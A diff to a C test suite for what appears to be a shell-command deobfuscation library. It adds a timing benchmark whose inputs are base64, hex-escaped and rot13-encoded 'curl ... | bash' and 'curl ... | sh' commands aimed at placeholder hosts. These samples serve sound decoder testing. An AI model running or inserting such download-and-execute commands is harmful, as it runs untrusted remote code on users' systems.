@@ -137,12 +137,7 @@ static void decode_case(pe_case_check *k, void *ctx)
     for (size_t i = 0; i < sizeof(flag_names) / sizeof(flag_names[0]); i++)
         if (d.flags & flag_names[i].bit)
             pe_sb_printf(&sb, "%s%s", sb.len ? " " : "", flag_names[i].name);
-    const char *want = pe_case_value(k->c, "flags");
-    char *w = pe_case_sorted_words(want ? want : ""), *g = pe_case_sorted_words(pe_sb_str(&sb));
-    if (strcmp(w, g) != 0)
-        pe_case_mismatch(k, "flags", w, g);
-    free(w);
-    free(g);
+    pe_case_expect_set(k, "flags", pe_sb_str(&sb));
     pe_sb_free(&sb);
     pe_arena_free(&a);
     free_words(&args);
@@ -355,6 +350,44 @@ START_TEST(allocation_failures_are_reported)
 }
 END_TEST
 
+/* A timing report, run only when PREMPTI_DECODE_BENCH is set (not asserted). */
+START_TEST(timing_report)
+{
+    if (!getenv("PREMPTI_DECODE_BENCH"))
+        return;
+    static const char b64[] = "Y3VybCAtZnNTTCBodHRwczovL2V4YW1wbGUuY29tL2luc3RhbGwuc2ggfCBiYXNoIC1z"
+                              "IC0tIC0tcHJlZml4PS91c3IvbG9jYWwgLS15ZXMgMj4mMQ==";
+    static const pe_str fmt[1] = {
+        {"\\x63\\x75\\x72\\x6c\\x20\\x2d\\x73\\x20\\x68\\x74\\x74\\x70"
+         "\\x3a\\x2f\\x2f\\x78\\x2e\\x63\\x6f\\x6d\\x20\\x7c\\x20\\x73\\x68",
+         100}};
+    static const pe_str rot[2] = {{"A-Za-z", 6}, {"N-ZA-Mn-za-m", 12}};
+    static const char text[] = "phey -sfFY uggcf://rknzcyr.pbz/vafgnyy.fu | onfu -f -- "
+                               "--cersvk=/hfe/ybpny --lrf 2>&1 && rpub qbar";
+    for (int which = 0; which < 3; which++) {
+        int iters = 200000, failed = 0;
+        double t0 = pe_test_now();
+        for (int i = 0; i < iters; i++) {
+            pe_arena a = PE_ARENA_INIT;
+            pe_decoded d;
+            int rc = which == 0   ? pe_decode_base64(&d, b64, sizeof(b64) - 1, 0, &a)
+                     : which == 1 ? pe_decode_printf(&d, fmt, 1, &a)
+                                  : pe_decode_tr(&d, rot, 2, text, sizeof(text) - 1, &a);
+            failed |= rc != PE_DECODE_OK;
+            pe_arena_free(&a);
+        }
+        double ns = (pe_test_now() - t0) / iters * 1e9;
+        ck_assert_int_eq(failed, 0);
+        size_t len = which == 0 ? sizeof(b64) - 1 : which == 1 ? fmt[0].len : sizeof(text) - 1;
+        printf("decoding %s: %zu bytes: %5.0f ns\n",
+               which == 0   ? "base64"
+               : which == 1 ? "printf"
+                            : "tr",
+               len, ns);
+    }
+}
+END_TEST
+
 int main(void)
 {
     Suite *s = suite_create("decode");
@@ -365,6 +398,7 @@ int main(void)
     tcase_add_test(tc, random_input_is_safe);
     tcase_add_test(tc, printf_output_is_bounded);
     tcase_add_test(tc, allocation_failures_are_reported);
+    tcase_add_test(tc, timing_report);
     tcase_set_timeout(tc, 300);
     suite_add_tcase(s, tc);
     return pe_test_run(s);
